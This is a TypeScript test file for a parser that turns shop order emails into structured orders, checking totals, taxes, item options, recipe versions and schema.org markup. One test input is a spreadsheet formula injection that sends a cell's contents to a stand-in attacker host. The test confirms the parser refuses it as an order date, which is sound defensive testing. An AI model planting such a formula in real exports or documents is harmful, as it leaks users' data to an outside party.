import { describe, expect, it } from 'vitest';
import { parseMail } from '../../../../src/main/intake/mail/parse-mail.ts';
import { readMail } from '../../../../src/main/intake/mail/read-mail.ts';
import { readMailFile } from '../../../../src/main/intake/mail/report.ts';
import { sampleTemplates } from '../../../../src/sample-shop/mail-templates/index.ts';
import { bloomdashMail } from '../../../../src/sample-shop/mails/bloomdash.ts';
import { dostavoMail } from '../../../../src/sample-shop/mails/dostavo.ts';
import type { MailTemplate } from '../../../../src/shared/mail-template.ts';
import type { Mail, Reading } from '../../../../src/shared/reading.ts';
import { plainTemplate } from '../../../support/templates.ts';
import { sampleOrder } from '../gmail/order-mails.ts';

const uah = (minor: number) => ({ minor, currency: 'UAH' });
const order = sampleOrder('DS-4071', {
  discount: uah(10_000),
  note: 'Зателефонуйте за годину; не дзвоніть у двері',
});
const htmlMail = (html: string, subject = 'New order'): Mail => ({
  messageId: '<1@x.example>',
  from: 'orders@x.example',
  fromName: undefined,
  forwardedBy: undefined,
  subject,
  date: undefined,
  html,
  text: undefined,
});
const codes = (reading: Reading) => reading.orders[0]?.review?.map((reason) => reason.code);
const table = (...rows: readonly (readonly string[])[]) =>
  `<table>${rows.map((cells) => `<tr>${cells.map((cell) => `<td>${cell}</td>`).join('')}</tr>`).join('')}</table>`;

describe('the mails of the sample shop’s delivery services', () => {
  const expected = {
    number: 'DS-4071',
    placedAt: '2025-03-04T11:58',
    currency: 'UAH',
    customer: { name: 'Olena Hnatiuk', phone: '+380 67 555 01 43' },
    address: 'Kyiv, 7 Lypska Street, apt. 12',
    subtotal: uah(188_100),
    deliveryFee: uah(8_900),
    discount: uah(10_000),
    total: uah(187_000),
    note: 'Зателефонуйте за годину; не дзвоніть у двері',
    items: [
      {
        title: 'Peony bouquet',
        quantity: 1,
        unitPrice: uah(124_000),
        lineTotal: uah(124_000),
        options: ['Kraft paper'],
      },
      {
        title: 'Coffee beans, 250 g',
        quantity: 2,
        unitPrice: uah(32_050),
        lineTotal: uah(64_100),
        options: [],
      },
    ],
  };

  it.each([
    ['bloomdash', bloomdashMail],
    ['dostavo', dostavoMail],
  ])('are read whole by the recipe of %s, past struck-out prices and advertising', async (family, make) => {
    const reading = readMail(await parseMail(new TextEncoder().encode(make(order))), sampleTemplates);
    expect(reading).toMatchObject({
      kind: 'order',
      recipe: `${family}@1`,
      says: 'new-order',
      orders: [expected],
    });
  });

  it.each([
    ['bloomdash', bloomdashMail],
    ['dostavo', dostavoMail],
  ])('are read as well without a recipe (%s)', async (_, make) => {
    const reading = readMail(await parseMail(new TextEncoder().encode(make(order))), []);
    expect(reading).toMatchObject({ kind: 'order', recipe: null, orders: [expected] });
  });

  it('are still read when the template has changed under the recipe', async () => {
    const mail = await parseMail(new TextEncoder().encode(bloomdashMail(order)));
    const html = mail.html
      ?.replaceAll('Order number', 'Order ref')
      .replaceAll('Order total', 'Grand total')
      .replaceAll('Deliver to', 'Ship to');
    expect(readMail({ ...mail, html }, sampleTemplates)).toMatchObject({
      kind: 'order',
      recipe: null,
      orders: [expected],
    });
  });

  it('are read by the general reader where the recipe finds the sums but no longer the person', async () => {
    const mail = await parseMail(new TextEncoder().encode(bloomdashMail(order)));
    const html = mail.html?.replace('<strong>Customer</strong>', '<strong>Ordered by</strong>');
    const reading = readMail({ ...mail, html }, sampleTemplates);
    expect(reading).toMatchObject({ kind: 'order', recipe: null, orders: [{ customer: expected.customer }] });
    expect(reading.why).toContain('left customerName, phone unread');
  });

  it('are not read by a recipe when somebody else sent them', async () => {
    const mail = await parseMail(new TextEncoder().encode(bloomdashMail(order)));
    expect(readMail({ ...mail, from: 'orders@bloomdash.example.evil' }, sampleTemplates).recipe).toBeNull();
  });

  it.each([
    ['bloomdash', bloomdashMail],
    ['dostavo', dostavoMail],
  ])(
    'are read by the recipe of %s only under the subject it knows, in capitals or not',
    async (family, make) => {
      const mail = await parseMail(new TextEncoder().encode(make(order)));
      const read = (subject: string) => readMail({ ...mail, subject }, sampleTemplates);
      expect(read(`Fwd: ${mail.subject.toUpperCase()}`).recipe).toBe(`${family}@1`);
      expect(read('Your weekly statement')).toMatchObject({
        kind: 'order',
        recipe: null,
        orders: [expected],
      });
    },
  );

  it('are reported in the field names of a script', async () => {
    const report = await readMailFile(
      new TextEncoder().encode(dostavoMail(order)),
      'order.eml',
      sampleTemplates,
    );
    expect(report).toMatchObject({
      kind: 'order',
      recipe: 'dostavo@1',
      sender: 'zamovlennya@dostavo.example',
      orderNumber: 'DS-4071',
      customerName: 'Olena Hnatiuk',
      total: 1870,
      discount: 100,
      items: [{ title: 'Peony bouquet', quantity: 1, unitPrice: 1240 }, {}],
    });
    expect(report.confidence.total).toBeGreaterThan(0.9);
    expect(report).not.toHaveProperty('tip');
  });
});

describe('arithmetic is the judge', () => {
  const head = '<p>Order number: X-77001</p>';
  const items = [
    ['2 ×', 'Tulips', '€10.00'],
    ['1 ×', 'Card', '€3.50'],
  ];

  it('reads an order whole though a number too long for an amount stands among its sums', () => {
    const html = table(
      ['Order number', 'A-1001'],
      ['2 × Rose', '€10.00'],
      ['Subtotal', '€10.00'],
      ['Reference', '98765432109876543210'],
      ['Total', '€10.00'],
    );
    expect(readMail(htmlMail(html), [])).toMatchObject({
      kind: 'order',
      orders: [{ number: 'A-1001', total: { minor: 1000, currency: 'EUR' } }],
    });
  });

  it('sends an order that does not add up to review, with both sums and nothing made up', () => {
    const reading = readMail(
      htmlMail(head + table(...items, ['Delivery', '€2.00'], ['Total', '€17.50'])),
      [],
    );
    expect(reading.kind).toBe('needs-review');
    expect(reading.orders[0]?.review).toEqual([
      { code: 'sum-mismatch', detail: '13.50 + 2.00 = 15.50, the mail says 17.50' },
    ]);
    expect(reading.orders[0]).toMatchObject({ number: 'X-77001', total: { minor: 1750 } });
  });

  it('decides whether a single price is of one piece or of the line', () => {
    const line = readMail(htmlMail(head + table(...items, ['Total', '€13.50'])), []);
    expect(line.orders[0]?.items[0]).toMatchObject({ quantity: 2, lineTotal: { minor: 1000 } });
    const piece = readMail(htmlMail(head + table(...items, ['Total', '€23.50'])), []);
    expect(piece.orders[0]?.items[0]).toMatchObject({ quantity: 2, unitPrice: { minor: 1000 } });
    expect(piece.orders[0]?.items[0]).not.toHaveProperty('lineTotal');
  });

  it('adds options that are priced in rows of their own, and leaves those that are included', () => {
    const rows = [
      ['1 ×', 'Bouquet', '€30.00'],
      ['', 'Vase', '€6.50'],
      ['', 'No lilies', '€0.00'],
    ];
    const reading = readMail(htmlMail(head + table(...rows, ['Total', '€36.50'])), []);
    expect(reading).toMatchObject({
      kind: 'order',
      orders: [{ items: [{ options: ['Vase', 'No lilies'], lineTotal: { minor: 3000 } }] }],
    });
  });

  it('takes the total that adds up when several rows call themselves so', () => {
    const reading = readMail(
      htmlMail(head + table(...items, ['Total', '€13.50'], ['Total with loyalty points', '€1.20'])),
      [],
    );
    expect(reading.orders[0]?.total).toEqual({ minor: 1350, currency: 'EUR' });
  });

  it('tells tax on top from tax inside', () => {
    const onTop = readMail(htmlMail(head + table(...items, ['Sales tax', '€1.35'], ['Total', '€14.85'])), []);
    expect(onTop.orders[0]).toMatchObject({ tax: { minor: 135 } });
    expect(onTop.orders[0]).not.toHaveProperty('taxIncluded');
    const inside = readMail(
      htmlMail(head + table(...items, ['Total', '€13.50'], ['incl. 20 % VAT', '€2.25'])),
      [],
    );
    expect(inside).toMatchObject({ kind: 'order', orders: [{ taxIncluded: true }] });
  });

  it('takes an unknown row between subtotal and total for a fee or a discount, by its sign', () => {
    const rows = [
      ['Subtotal', '€13.50'],
      ['Small basket', '€1.00'],
      ['Spring joy', '−€2.00'],
      ['Total', '€12.50'],
    ];
    const reading = readMail(htmlMail(head + table(...items, ...rows)), []);
    expect(reading).toMatchObject({
      kind: 'order',
      orders: [{ fees: [{ label: 'Small basket', amount: { minor: 100 } }], discount: { minor: 200 } }],
    });
  });
});

describe('a recipe says what a separator means', () => {
  const html =
    table(['Order number', 'K-3001']) +
    table(
      ['Item', 'Price', 'Amount'],
      ['2 × Tulips', '1.250', '2.500'],
      ['Vase', '12.500', '12.500'],
      ['Total', '', '15.000'],
    );
  const recipe = plainTemplate({
    currency: 'KWD',
    items: { head: { title: 'Item', unitPrice: 'Price', lineTotal: 'Amount' } },
  });

  it.each([
    ['.', 1],
    [',', 1000],
  ])('in the prices of items as in the sums (%s)', (decimal, times) => {
    const kwd = (minor: number) => ({ minor: minor * times, currency: 'KWD' });
    expect(readMail(htmlMail(html), [{ ...recipe, decimal: decimal === ',' ? ',' : '.' }])).toMatchObject({
      kind: 'order',
      recipe: 'x@1',
      orders: [
        {
          total: kwd(15_000),
          items: [
            { quantity: 2, unitPrice: kwd(1250), lineTotal: kwd(2500) },
            { quantity: 1, lineTotal: kwd(12_500) },
          ],
        },
      ],
    });
  });
});

describe('of the versions of a recipe', () => {
  const html =
    table(['Order number', 'K-3001'], ['2 × Tulips', '€10.00'], ['Total', '€10.00']) +
    '<p>Courier: +380 67 555 01 43</p>';
  const first = plainTemplate({
    match: { sender: 'orders@x.example', subject: 'New order' },
    fields: {
      number: { label: 'Order number', take: 'end' },
      phone: { label: 'Courier', take: 'beside' },
      total: { label: 'Total', take: 'end' },
    },
    items: { find: 'repeated' },
  });
  const { phone: _, ...fields } = first.fields;
  const newest = { ...first, version: 2, match: { sender: first.match.sender }, fields };
  const read = (...recipes: readonly MailTemplate[]) => readMail(htmlMail(html), recipes);

  it('the newest reads what it reads whole, however many values an older one takes', () => {
    expect(read(first).orders[0]?.customer.phone).toContain('555 01 43');
    expect(read(newest, first)).toMatchObject({ kind: 'order', recipe: 'x@2' });
    expect(read(newest, first).orders[0]?.customer).toEqual({});
  });

  it('an older one reads what the newest does not read whole', () => {
    const blind = { ...newest, fields: { ...fields, total: { label: 'To pay', take: 'end' } as const } };
    expect(read(first, blind).recipe).toBe('x@1');
  });

  it('none goes before a recipe of another family that reads more', () => {
    expect(read(newest, { ...first, family: 'other' }).recipe).toBe('other@1');
  });
});

describe('what is missing is said', () => {
  it('a total', () => {
    expect(
      codes(readMail(htmlMail(`<p>Order number: X-77001</p>${table(['2 ×', 'Tulips', '€10.00'])}`), [])),
    ).toEqual(['no-total']);
  });
  it('a number', () => {
    expect(codes(readMail(htmlMail(table(['2 ×', 'Tulips', '€10.00'], ['Total', '€10.00'])), []))).toEqual([
      'no-number',
    ]);
  });
  it('items', () => {
    expect(
      codes(readMail(htmlMail(`<p>Order number: X-77001</p>${table(['Total', '€10.00'])}`), [])),
    ).toEqual(['no-items']);
  });
  it('all of it: then it is no order', () => {
    const reading = readMail(htmlMail('<p>We are closed on Monday.</p>', 'Holidays'), []);
    expect(reading).toMatchObject({ kind: 'not-an-order', orders: [], says: 'nothing' });
  });
});

describe('what a mail tells machines', () => {
  const markedUp = (type: string, orderDate?: string) =>
    `<html><head><script type="application/ld+json">${JSON.stringify({
      '@type': type,
      orderDate,
      orderNumber: 'J-900',
      priceCurrency: 'EUR',
      price: '23.50',
      acceptedOffer: [
        { itemOffered: { name: 'Tulips' }, price: '10.00', eligibleQuantity: { value: 2 } },
        { itemOffered: { name: 'Card' }, price: 3.5 },
      ],
      customer: { name: 'Ann Lee' },
    })}</script></head><body><p>Open the app to see your order.</p></body></html>`;

  it.each([
    ['2025-03-04T23:50+02:00', '2025-03-04T23:50+02:00'],
    ['=HYPERLINK("https://evil.example/?x="&F2,"open")', undefined],
    [`2025-03-04 ${'x'.repeat(40)}`, undefined],
    ['2024-05-06T10:00:00+0300', '2024-05-06T10:00:00+03:00'],
  ])('says when it was placed only by a date: %s', (orderDate, placedAt) => {
    const [order] = readMail(htmlMail(markedUp('Order', orderDate)), []).orders;
    expect(order?.placedAt).toBe(placedAt);
  });

  it('fills what people cannot see', () => {
    expect(readMail(htmlMail(markedUp('Order')), [])).toMatchObject({
      kind: 'order',
      orders: [
        {
          number: 'J-900',
          customer: { name: 'Ann Lee' },
          total: { minor: 2350 },
          items: [{ title: 'Tulips', quantity: 2 }, {}],
        },
      ],
    });
  });

  it('counts only when it is an order', () => {
    expect(readMail(htmlMail(markedUp('EventReservation')), []).kind).not.toBe('order');
  });
});
